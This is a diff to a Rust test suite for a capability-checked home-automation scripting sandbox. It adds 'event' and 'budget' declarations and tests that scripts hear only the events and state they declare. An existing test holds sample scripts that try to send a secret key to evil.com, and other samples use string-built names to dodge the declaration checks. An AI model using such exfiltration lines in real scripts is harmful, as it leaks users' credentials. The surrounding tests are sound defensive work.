@@ -92,12 +92,17 @@ fn refused(outcome: &Outcome) -> Option<&str> {
 
 /// A handler with this body under this header does nothing outside, and says why.
 fn nothing_leaves(header: &str, files: &[(&str, &str)], body: &str) {
-    let source =
-        format!("{header}\nfn run_it(f) {{ f.call() }}\non(\"**\", |event| {{ {body} }});");
+    let source = format!(
+        "//! needs: event **\n{header}\nfn run_it(f) {{ f.call() }}\non(\"**\", |event| {{ {body} }});"
+    );
     match tried(files, &[], &source) {
-        Err(mistakes) => assert!(mistakes.contains("may not reach"), "{body}: {mistakes}"),
+        Err(mistakes) => assert!(
+            mistakes.contains("this script may not"),
+            "{body}: {mistakes}"
+        ),
         Ok((run, asked)) => {
             assert!(run.actions.is_empty(), "{body}: {:?}", run.actions);
+            assert!(run.waits.is_empty(), "{body}: {:?}", run.waits);
             assert!(asked.is_empty(), "{body}: {asked:?}");
             assert!(run.emitted.is_empty() && run.state.is_empty(), "{body}");
             let said = run.logs.iter().any(|line| line.message.contains("may not"));
@@ -152,6 +157,12 @@ fn nothing_undeclared_is_reached_by_any_route() {
         "log::info(state::get(\"other.\" + \"x\"));",
         "state::keys(\"\" + \"\");",
         "state::keys();",
+        "budget(\"s\" + \"ms\", 1, \"1d\");",
+        "log::info(budget_left(\"s\" + \"ms\", 1, \"1d\"));",
+        "budget(\"sms\", 1, \"1d\");",
+        "budget(\"gated\", 1, \"1d\");",
+        "wait_for(\"state.\" + \"changed\", #{ within: \"1m\" }, |e| log::info(e.data));",
+        "wait_for(\"state.*\", #{ within: \"1m\" }, |e| log::info(e.data));",
     ] {
         let body = body.replace("import_free();", "e::run_it(\"http://gate.lan/\");");
         let header = if body.contains("e::") {
@@ -176,7 +187,7 @@ fn nothing_undeclared_is_reached_by_any_route() {
 #[test]
 fn declared_things_are_reached() {
     let source = "//! needs: http gate.lan, light porch, message office, file a.csv
-//! needs: command backup, emit gate.*, state visits.
+//! needs: command backup, emit gate.*, event **, state visits., budget sms
 on(\"**\", |event| {
     http::send(\"http://gate.lan/open\");
     light::flash(\"porch\");
@@ -186,10 +197,16 @@ on(\"**\", |event| {
     emit(\"gate.opened\");
     state::set(\"visits.today\", 1);
     state::set(\"gate.last\", 1);
+    if !budget(\"sms\", 1, \"1d\") || !budget(\"gate\", 1, \"1d\") { throw \"no budget\"; }
+    http::send(\"http://gate.lan/\", #{ lane: \"http:siren.lan\" });
 });";
     let (run, asked) = tried(&[], &[], source).unwrap_or_else(|e| panic!("{e}"));
     let run = ok(run);
-    assert_eq!((run.actions.len(), run.emitted.len()), (5, 1));
+    assert_eq!((run.actions.len(), run.emitted.len()), (6, 1));
+    assert_eq!(
+        run.actions[5].lane, "gate/http:siren.lan",
+        "a lane of its own"
+    );
     assert_eq!(asked.len(), 1, "the state of the lamp was asked for");
     assert_eq!(
         run.actions[0].args["hosts"],
@@ -200,7 +217,7 @@ on(\"**\", |event| {
 
 #[test]
 fn a_mistake_in_plain_sight_has_a_caret_and_the_line_to_add() {
-    let source = "//! Opens the gate.\non(\"**\", |event| {\n    http::send(\"http://gate.lan:8080/open\");\n});";
+    let source = "//! needs: event **\non(\"**\", |event| {\n    http::send(\"http://gate.lan:8080/open\");\n});";
     let text = tried(&[], &[], source).unwrap_err();
     assert!(text.contains("gate.rhai:3:16"), "{text}");
     assert!(
@@ -229,7 +246,7 @@ fn a_targets_secret_goes_to_the_target_and_nowhere_else() {
         "http::send(target(\"message\", \"office\").url, #{ body: target(\"light\", \"hall\").key });",
         "http::send(\"http://evil.com/\", #{ body: key });",
     ];
-    let header = "//! needs: http evil.com, light *, message office, command backup\nlet key = setting(\"key\", \"\");";
+    let header = "//! needs: event **, http evil.com, light *, message office, command backup\nlet key = setting(\"key\", \"\");";
     for body in steals {
         let source = format!("{header}\non(\"**\", |event| {{ {body} }});");
         let (run, asked) = tried(&[], &[], &source).unwrap_or_else(|e| panic!("{body}: {e}"));
@@ -240,7 +257,8 @@ fn a_targets_secret_goes_to_the_target_and_nowhere_else() {
         );
         assert!(run.actions.is_empty() && asked.is_empty(), "{body}");
     }
-    let honest = "//! needs: light hall, message office, secret settings.gate.key, http evil.com
+    let honest =
+        "//! needs: event **, light hall, message office, secret settings.gate.key, http evil.com
 let key = setting(\"key\", \"\");
 on(\"**\", |event| {
     light::on(\"hall\");
@@ -251,17 +269,110 @@ on(\"**\", |event| {
     assert_eq!(ok(run).actions.len(), 3);
 }
 
+/// What is wrong with a script that hears this under this header; nothing when it loads.
+fn hears(needs: &str, top: &str) -> String {
+    let source = format!("//! needs: {needs}\nlet all = \"**\";\n{top}");
+    tried(&[], &[], &source).err().unwrap_or_default()
+}
+
+#[test]
+fn a_script_hears_only_the_events_and_the_state_that_it_declares() {
+    let quiet = "on(\"gate.*\", || ());\n";
+    for (needs, top) in [
+        ("event gate.*", "on(\"gate.opened\", || ());"),
+        ("event gate.**", "on(\"gate.*.left\", || ());"),
+        ("event **", "on(all, || ());"),
+        ("event state.*", "on(\"state.changed\", || ());"),
+        ("event gate.*", "on_silence(\"gate.*\", \"1h\", || ());"),
+        ("state door.", "on_state(\"door.*\", || ());"),
+        ("light porch", "on_state(\"gate.mode\", || ());"),
+        ("light porch", "every(\"1h\", || ());"),
+        (
+            "event gate.*",
+            "on(\"gate.*\", || wait_for(\"gate.closed\", #{ within: \"1m\" }, || ()));",
+        ),
+    ] {
+        assert_eq!(hears(needs, top), "", "{needs}: {top}");
+    }
+    for (needs, top, help) in [
+        (
+            "event gate.*",
+            "on(\"door.opened\", || ());",
+            "event door.opened",
+        ),
+        ("event gate.*", "on(\"gate.**\", || ());", "event gate.**"),
+        ("event gate.*", "on(all, || ());", "event **"),
+        (
+            "event **",
+            "on(\"state.changed\", || ());",
+            "event state.changed",
+        ),
+        ("event **", "on(\"state.**\", || ());", "event state.**"),
+        (
+            "light porch",
+            "on(\"porchlight.**\", || ());",
+            "event porchlight.**",
+        ),
+        (
+            "event gate.*",
+            "on_silence(\"**\", \"1h\", || ());",
+            "event **",
+        ),
+        ("event gate.*", "on_state(\"**\", || ());", "state **"),
+    ] {
+        let said = hears(&format!("event gate.*, {needs}"), &format!("{quiet}{top}"));
+        assert!(
+            said.contains("this script may not"),
+            "{needs}: {top}: {said}"
+        );
+        assert!(
+            said.contains(&format!("`//! needs: {help}`")),
+            "{needs}: {top}: {said}"
+        );
+        assert_eq!(said.matches("error:").count(), 1, "told once: {said}");
+    }
+    let said = hears("event gate.*", "on(\"door.opened\", || ());");
+    assert!(
+        said.contains("this script may not hear `door.opened`"),
+        "{said}"
+    );
+    assert!(said.contains("gate.rhai:3:4"), "{said}");
+    assert_eq!(said.matches("error:").count(), 1, "{said}");
+}
+
+#[test]
+fn of_a_version_that_may_not_hear_its_events_only_the_waits_are_left() {
+    on_big_stack(|| {
+        let (host, _, _dir) = declared_host(&[], &[]);
+        let open = Host::new(HostConfig::default());
+        let source = "on(\"gate.*\", |event| { later(\"1s\", || log::info(\"late\")); });";
+        let old = open.load("gate.rhai", source).unwrap();
+        let begun = ok(open.run(&old, 0, &event("gate.opened", json!({})), NOW));
+        assert!(host.load("gate.rhai", source).is_err());
+        let pinned = host.load_version("gate.rhai", &old.sources).unwrap();
+        assert!(pinned.handlers.is_empty(), "it hears nothing");
+        let wait = Wait {
+            id: 1,
+            content: begun.waits[0].clone(),
+        };
+        let run = ok(host.run_wait(&pinned, &wait, None, NOW));
+        assert_eq!(run.logs[0].message, "late");
+    });
+}
+
 #[test]
 fn the_owners_list_counts_instead_of_the_header() {
     let source = "//! needs: command backup\non(\"**\", |event| { let c = \"backup\"; command::start(c); });";
-    let (run, _) = tried(&[], &["http gate.lan"], source).unwrap_or_else(|e| panic!("{e}"));
+    let (run, _) =
+        tried(&[], &["http gate.lan", "event **"], source).unwrap_or_else(|e| panic!("{e}"));
     let message = refused(&run.outcome).unwrap_or_default().to_owned();
     assert!(
         message.contains("add \"command backup\" to `allow` of [script.\"gate.rhai\"]"),
         "{message}"
     );
     let source = "on(\"**\", |event| { http::send(\"http://gate.lan/\"); });";
-    let (run, _) = tried(&[], &["http gate.lan"], source).unwrap_or_else(|e| panic!("{e}"));
+    let (run, _) =
+        tried(&[], &["http gate.lan", "event **"], source).unwrap_or_else(|e| panic!("{e}"));
     assert_eq!(ok(run).actions.len(), 1);
 }
 
@@ -269,7 +380,7 @@ fn the_owners_list_counts_instead_of_the_header() {
 fn a_wait_of_an_older_version_keeps_the_rights_of_its_own_header() {
     on_big_stack(|| {
         let (host, _, _dir) = declared_host(&[], &[]);
-        let poor = "on(\"**\", |event| { later(\"1s\", || { let c = \"backup\"; command::start(c); }); });";
+        let poor = "//! needs: event **\non(\"**\", |event| { later(\"1s\", || { let c = \"backup\"; command::start(c); }); });";
         let old = host.load("gate.rhai", poor).unwrap();
         let begun = ok(host.run(&old, 0, &event("a", json!({})), NOW));
         let rich = format!("//! needs: command backup\n{poor}");
@@ -304,7 +415,7 @@ fn what_a_script_reaches_can_be_listed() {
             host.load("gate.rhai", source).unwrap().reach().to_string()
         })
     };
-    let source = "//! needs: http gate.lan, light porch, file *.csv
+    let source = "//! needs: event **, http gate.lan, light porch, file *.csv
 on(\"**\", |event| {
     http::send(\"http://gate.lan/open\");
     http::get(`http://gate.lan/${event.id}`);
@@ -313,10 +424,10 @@ on(\"**\", |event| {
 });";
     assert_eq!(
         reach(Mode::Open, source),
-        "http gate.lan, light porch, any file (seen in its text; nothing holds it to that)"
+        "http gate.lan, light porch, event **, any file (seen in its text; nothing holds it to that)"
     );
     assert_eq!(
         reach(Mode::Declared, source),
-        "http gate.lan, light porch, file *.csv (and nothing else)"
+        "http gate.lan, light porch, file *.csv, event ** (and nothing else)"
     );
 }
